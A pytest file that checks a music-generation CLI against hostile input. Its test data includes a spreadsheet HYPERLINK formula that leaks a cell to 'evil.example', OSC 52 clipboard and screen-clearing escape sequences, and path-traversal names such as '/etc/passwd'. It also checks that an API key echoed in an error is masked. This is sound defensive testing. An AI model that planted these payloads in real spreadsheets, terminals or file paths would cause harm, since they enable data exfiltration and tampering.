"""The shell batch against hostile and broken input: formulas in the CSVs it writes, terminal
control sequences in prompts, CSVs that do not parse, empty slices, prompts that aim outside the
output folder and a key that the service repeats in a job's error. Real subprocesses against a
real sandbox on loopback."""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from apiframe_magic._csv import read_rows
from apiframe_magic.sandbox import SandboxServer

from ..conftest import CANARY_KEY

GENERATE = "/v2/music/generate"
FORMULAS = [
    '=HYPERLINK("https://evil.example/?q="&A1,"click me")',
    "+1 energy, bright brass",
    "-3.5 dB of dread, slow drone",
    "@everyone a marching band",
]
# OSC 52 (write the clipboard), a screen clear, a carriage return and a C1 CSI.
CONTROLS = ["\x1b]52;c;ZWNobw==\x07calm piano", "\x1b[2J\x1b[Hsoft rain", "\x9b31mred drums"]


@pytest.fixture
def server() -> Iterator[SandboxServer]:
    with SandboxServer(job_seconds=0.3) as running:
        yield running


def run(server: SandboxServer, cwd: Path, *args: str, key: str = "afk_cli_hostile_test"
        ) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("APIFRAME_")}
    env.update(APIFRAME_BASE_URL=server.url, APIFRAME_API_KEY=key)
    return subprocess.run([sys.executable, "-m", "apiframe_magic", "batch", *args], cwd=cwd,
                          env=env, capture_output=True, text=True, timeout=120)


def posts(server: SandboxServer) -> int:
    return sum(1 for r in server.recorded_requests()
               if r.origin == "api" and r.method == "POST" and r.path == GENERATE)


def test_results_csv_neutralises_formulas_and_reads_back_as_typed(
    server: SandboxServer, tmp_path: Path
) -> None:
    (tmp_path / "p.txt").write_text("\n".join(FORMULAS) + "\n'quoted already\n", encoding="utf-8")

    done = run(server, tmp_path, "p.txt", "--length", "5s")

    assert done.returncode == 0, done.stderr
    results = tmp_path / "apiframe_outputs" / "results.csv"
    with results.open(newline="", encoding="utf-8") as file:
        raw = list(csv.DictReader(file))
    for row in raw:  # what a spreadsheet sees: text, never a formula
        for column in ("prompt", "label", "params", "path", "error"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (column, row[column])
    assert raw[0]["prompt"] == "'" + FORMULAS[0]
    assert raw[4]["prompt"] == "''quoted already"
    # Numbers stay numbers (a credit cost or a length is never prefixed).
    assert {row["credits"] for row in raw} == {"10"} and all(float(row["duration"]) > 0 for row in raw)
    with results.open(newline="", encoding="utf-8") as file:
        typed = read_rows(file)
    assert [row["prompt"] for row in typed] == [*FORMULAS, "'quoted already"]


def test_control_sequences_in_prompts_are_shown_escaped(server: SandboxServer, tmp_path: Path) -> None:
    (tmp_path / "p.txt").write_text("\n".join(CONTROLS) + "\n", encoding="utf-8")

    dry = run(server, tmp_path, "p.txt", "--length", "5s", "--dry-run")
    done = run(server, tmp_path, "p.txt", "--length", "5s")

    assert dry.returncode == 0 and done.returncode == 0, done.stderr
    for text in (dry.stdout, dry.stderr, done.stdout, done.stderr):
        assert not any(ch in text for ch in ("\x1b", "\x07", "\x9b", "\r")), repr(text)
    assert "\\x1b]52;c;" in dry.stdout and "\\x1b[2J" in dry.stdout and "\\x9b31m" in dry.stdout
    assert "\\x1b[2J" in done.stderr and "\\x9b31m" in done.stderr  # a line per finished job


@pytest.mark.parametrize(
    ("text", "line", "says"),
    [
        ('prompt,takes\n"a lofi beat,1\ndark synthwave,1\ncalm piano,1\n', 2, "never closed"),
        ('prompt,takes\na beat,1\nsurf "rock",1\n"b" c,1\n', 4, "not a readable CSV"),
        ("prompt,takes,prompt\na beat,1,other beat\n", 1, "prompt named twice"),
        ("prompt\na slow beat, with rain\n", 2, "2 cells under a header of 1"),
    ],
)
def test_a_broken_csv_is_one_line_naming_the_line_and_nothing_is_sent(
    server: SandboxServer, tmp_path: Path, text: str, line: int, says: str
) -> None:
    (tmp_path / "sweep.csv").write_text(text, encoding="utf-8")

    done = run(server, tmp_path, "sweep.csv")

    assert done.returncode == 2, done.stdout + done.stderr
    errors = done.stderr.strip().splitlines()
    assert len(errors) == 1 and errors[0].startswith(f"error: sweep.csv: line {line}: "), errors
    assert says in errors[0]
    assert posts(server) == 0 and not (tmp_path / "apiframe_outputs" / "results.csv").exists()


def test_bad_json_in_params_names_the_text_given(server: SandboxServer, tmp_path: Path) -> None:
    (tmp_path / "sweep.csv").write_text("prompt,params\na beat,{n: three}\n", encoding="utf-8")

    done = run(server, tmp_path, "sweep.csv", "--dry-run")

    assert done.returncode == 2
    assert "params=None" not in done.stderr and "params='{n: three}'" in done.stderr, done.stderr


def test_a_slice_with_nothing_to_do_succeeds_and_says_so(server: SandboxServer, tmp_path: Path) -> None:
    (tmp_path / "p.txt").write_text("calm piano\ndark jazz\n", encoding="utf-8")

    runs = [run(server, tmp_path, "p.txt", "--length", "5s", "--slice", f"{k}/4") for k in range(4)]
    dry = run(server, tmp_path, "p.txt", "--slice", "3/4", "--dry-run")

    assert [r.returncode for r in runs] == [0, 0, 0, 0], [r.stderr for r in runs]
    assert "--slice 3/4: nothing to do" in runs[3].stdout and "nothing to do" in dry.stdout
    assert posts(server) == 2
    empty = tmp_path / "apiframe_outputs" / "results-3-of-4.csv"
    assert empty.read_text(encoding="utf-8").splitlines() == [
        "label,prompt,take,model,params,job_id,status,credits,path,duration,error"
    ]


def test_prompts_that_look_like_paths_stay_in_the_output_folder(
    server: SandboxServer, tmp_path: Path
) -> None:
    work = tmp_path / "work"
    work.mkdir()
    hostile = ["../../escape attempt", "/etc/passwd", "..\\..\\windows\\system32", "~/.bashrc",
               "con", "sub/dir/../../.."]
    (work / "p.txt").write_text("\n".join(hostile) + "\n", encoding="utf-8")

    done = run(server, work, "p.txt", "--length", "5s", "--output-dir", "out")

    assert done.returncode == 0, done.stderr
    everything = {p for p in tmp_path.rglob("*") if p.is_file()}
    outside = {p for p in everything if not p.is_relative_to(work / "out")} - {work / "p.txt"}
    assert outside == set()
    audio = sorted((work / "out").glob("*.mp3"))
    assert len(audio) == len(hostile) and all(p.parent == work / "out" for p in audio)


def test_a_key_the_service_repeats_in_a_failed_job_is_never_shown_or_stored(
    server: SandboxServer, tmp_path: Path
) -> None:
    server.faults.inject("fail_job", message=f"Provider returned an error: bad key {CANARY_KEY} (403)")
    (tmp_path / "p.txt").write_text("calm piano\n", encoding="utf-8")

    done = run(server, tmp_path, "p.txt", "--length", "5s", key=CANARY_KEY)

    assert done.returncode == 1, done.stderr
    assert CANARY_KEY not in done.stdout + done.stderr
    assert "bad key afk_" in done.stderr  # the reason is still shown, with the key masked
    out = tmp_path / "apiframe_outputs"
    files = [p for p in out.iterdir() if p.is_file()]
    assert {p.name for p in files} >= {"results.csv", ".apiframe-ledger.sqlite3"}
    for path in files:  # the ledger, its -wal and -shm while open, the CSV, any sidecar
        assert CANARY_KEY.encode() not in path.read_bytes(), path.name
    with (out / "results.csv").open(newline="", encoding="utf-8") as file:
        (row,) = read_rows(file)
    assert row["status"] == "failed" and "bad key afk_" in row["error"]
